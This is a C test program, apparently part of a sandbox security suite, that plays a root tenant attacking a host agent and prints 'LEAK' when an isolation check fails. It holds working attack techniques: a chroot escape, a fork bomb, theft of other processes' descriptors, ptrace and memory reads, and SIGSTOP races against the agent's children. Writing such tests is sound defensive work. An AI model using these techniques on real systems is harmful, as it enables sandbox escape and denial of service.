/* What a tenant who is root in the sandbox may try on the agent. Each line of output is a finding: `LEAK ...` must never
 * appear. Run inside the sandbox by test_agent_attacks.py. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <linux/sched.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int open_pid(int pid, const char *name, int flags) {
        char path[64];

        snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
        return open(path, flags);
}

static int read_pid(int pid, const char *name, char *text, size_t size) {
        int fd = open_pid(pid, name, O_RDONLY);
        ssize_t n = fd < 0 ? -1 : read(fd, text, size - 1);

        if (fd >= 0)
                close(fd);
        text[n > 0 ? n : 0] = 0;
        return (int) n;
}

/* A descriptor of another process is in our hands: is it one of the agent's? Commands have pipes, files and ptys only. */
static void judge(int pid, int number, int fd) {
        struct statfs fs;
        struct stat st;
        char link[64] = "", path[64];

        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        if (readlink(path, link, sizeof(link) - 1) < 0)
                link[0] = 0;
        if (fstat(fd, &st) == 0 && (S_ISSOCK(st.st_mode) || strstr(link, "anon_inode")))
                printf("LEAK fd %d of %d: %s\n", number, pid, link);
        if (fstatfs(fd, &fs) == 0 && fs.f_type == CGROUP2_SUPER_MAGIC)
                printf("LEAK cgroup directory, fd %d of %d\n", number, pid);
}

static void steal_fds(int pid) {
        int pidfd = (int) syscall(SYS_pidfd_open, pid, 0);

        if (pidfd < 0)
                return;
        for (int i = 0; i < 40; i++) {
                int fd = (int) syscall(SYS_pidfd_getfd, pidfd, i, 0);
                if (fd < 0)
                        continue;
                judge(pid, i, fd);
                close(fd);
        }
        close(pidfd);
}

static int is_agents(int pid) {
        char text[4096];

        return read_pid(pid, "maps", text, sizeof(text)) > 0 && strstr(text, "dsec-agent");
}

/* One look at a process that is not ours. */
static void probe(int pid, int quiet) {
        struct rlimit limit;
        uint64_t word;
        struct iovec local = { &word, 8 }, remote = { (void *) 0x400000, 8 };
        int fd;

        if (is_agents(pid))
                printf("LEAK maps of %d\n", pid);
        steal_fds(pid);
        if (quiet)
                return;
        printf("ptrace %d\n", ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 ? 0 : errno);
        printf("vm_read %d\n", process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 ? 0 : errno);
        for (const char **name = (const char *[]) { "mem", "environ", "fd", "cwd", "root", "exe", "ns/pid", "ns/mnt", NULL };
             *name; name++) {
                fd = open_pid(pid, *name, O_RDONLY);
                printf("open %s %d\n", *name, fd >= 0 ? 0 : errno);
        }
        printf("getrlimit %d\n", prlimit(pid, RLIMIT_NOFILE, NULL, &limit) == 0 ? 0 : errno);
        printf("kill %d\n", kill(pid, SIGKILL) == 0 ? 0 : errno);
        printf("stop %d\n", kill(pid, SIGSTOP) == 0 ? 0 : errno);
}

static void each_pid(void (*visit)(int pid)) {
        DIR *dir = opendir("/proc");
        int self = getpid(), parent = getppid();

        for (struct dirent *e; dir && (e = readdir(dir));) {
                int pid = atoi(e->d_name);
                if (pid > 0 && pid != self && pid != parent)
                        visit(pid);
        }
        if (dir)
                closedir(dir);
}

/* --- modes */

static void visit_probe(int pid) {
        char comm[64];

        read_pid(pid, "comm", comm, sizeof(comm));
        printf("pid %d %s", pid, comm);
        probe(pid, 0);
}

/* Every number, in case /proc lies. */
static void scan(void) {
        for (int pid = 1; pid < 70000; pid++)
                if (kill(pid, 0) == 0 || errno == EPERM)
                        printf("exists %d\n", pid);
        printf("kill_all %d\n", kill(-1, 0) == 0 ? 0 : errno);
        printf("own_parent %d\n", getppid());
}

static int newest, caught;

static void visit_race(int pid) {
        if (pid <= newest)
                return;
        char comm[64];

        /* Stopped first, so that there is all the time in the world. */
        kill(pid, SIGSTOP);
        read_pid(pid, "comm", comm, sizeof(comm));
        caught += strncmp(comm, "dsec-agent", 10) == 0;
        probe(pid, 1);
        kill(pid, SIGCONT);
        newest = pid;
}

/* Catches the agent's children between clone and exec. */
static void race(int seconds) {
        time_t end = time(NULL) + seconds;

        newest = getpid();
        printf("ready\n");
        fflush(stdout);
        while (time(NULL) < end) {
                /* faster than readdir: the next number is known */
                for (int pid = newest + 1; pid < newest + 64; pid++)
                        if (kill(pid, SIGSTOP) == 0) {
                                visit_race(pid);
                                break;
                        }
        }
        printf("caught %d\n", caught);
}

/* Stops whatever starts, for good. */
static void freeze(int seconds) {
        time_t end = time(NULL) + seconds;
        int last = getpid();

        printf("ready\n");
        fflush(stdout);
        while (time(NULL) < end)
                for (int pid = last + 1; pid < last + 64; pid++)
                        if (kill(pid, SIGSTOP) == 0) {
                                printf("stopped %d\n", pid);
                                fflush(stdout);
                                last = pid;
                        }
}

static void namespaces(void) {
        struct clone_args args = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
        long pid = syscall(SYS_clone3, &args, sizeof(args));

        if (pid == 0)
                _exit(0);
        printf("clone3_newuser %d\n", pid > 0 ? 0 : errno);
        printf("clone_newuser %d\n", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) >= 0 ? 0 : errno);
        printf("unshare_user %d\n", unshare(CLONE_NEWUSER) == 0 ? 0 : errno);
        printf("mount %d\n", mount("x", "/tmp", "tmpfs", 0, NULL) == 0 ? 0 : errno);
        printf("umount %d\n", umount2("/proc", MNT_DETACH) == 0 ? 0 : errno);
        printf("setns %d\n", setns(0, 0) == 0 ? 0 : errno);
        printf("mknod %d\n", mknod("/tmp/sda", S_IFBLK | 0600, 8 << 8) == 0 ? 0 : errno);
}

/* Not an attack: a server for one connection, because busybox' nc can neither choose its address nor half-close. */
static int serve(const char *family, int port, const char *what) {
        struct sockaddr_in four = { .sin_family = AF_INET, .sin_port = htons((uint16_t) port),
                                    .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        struct sockaddr_in6 six = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t) port),
                                    .sin6_addr = in6addr_loopback };
        int is_six = *family == '6';
        int s = socket(is_six ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
        static char buffer[65536];
        ssize_t n;

        if (bind(s, is_six ? (void *) &six : (void *) &four, is_six ? sizeof(six) : sizeof(four)) < 0 || listen(s, 1) < 0)
                return 3;
        printf("listening\n");
        int fd = accept(s, NULL, NULL);
        memset(buffer, 'y', sizeof(buffer));
        if (strcmp(what, "echo") == 0)
                while ((n = read(fd, buffer, sizeof(buffer))) > 0)
                        if (write(fd, buffer, (size_t) n) != n)
                                return 4;
        signal(SIGPIPE, SIG_IGN);
        if (strcmp(what, "flood") == 0)
                while (write(fd, buffer, sizeof(buffer)) > 0)
                        ;
        return 0;
}

static void descriptors(void) {
        for (int fd = 0; fd < 4096; fd++)
                if (fcntl(fd, F_GETFD) >= 0)
                        printf("fd %d\n", fd);
}

/* Never gives up, and never leaves a place empty for long. */
static void bomb(void) {
        for (;;)
                if (fork() == 0)
                        for (;;)
                                pause();
}

/* The classic: a root below the directory one is in, and up from there. */
static void escape(void) {
        static const char *const beyond[] = { "/init", "/l", "/u", "/r", "/modules" };

        (void) mkdir("/tmp/below", 0755);
        if (chroot("/tmp/below") < 0)
                perror("chroot");
        for (int i = 0; i < 100; i++)
                (void) !chdir("..");
        if (chroot(".") < 0)
                perror("chroot");
        for (size_t i = 0; i < sizeof(beyond) / sizeof(beyond[0]); i++)
                if (access(beyond[i], F_OK) == 0)
                        printf("LEAK %s\n", beyond[i]);
        printf("%s\n", access("/bin/attack", F_OK) == 0 ? "stayed" : "elsewhere");
}

int main(int argc, char **argv) {
        const char *mode = argc > 1 ? argv[1] : "";

        setvbuf(stdout, NULL, _IOLBF, 0);
        if (strcmp(mode, "probe") == 0)
                each_pid(visit_probe);
        else if (strcmp(mode, "scan") == 0)
                scan();
        else if (strcmp(mode, "race") == 0)
                race(atoi(argv[2]));
        else if (strcmp(mode, "freeze") == 0)
                freeze(atoi(argv[2]));
        else if (strcmp(mode, "namespaces") == 0)
                namespaces();
        else if (strcmp(mode, "serve") == 0)
                return serve(argv[2], atoi(argv[3]), argv[4]);
        else if (strcmp(mode, "bomb") == 0)
                bomb();
        else if (strcmp(mode, "escape") == 0)
                escape();
        else if (strcmp(mode, "descriptors") == 0)
                descriptors();
        else
                return 2;
        return 0;
}
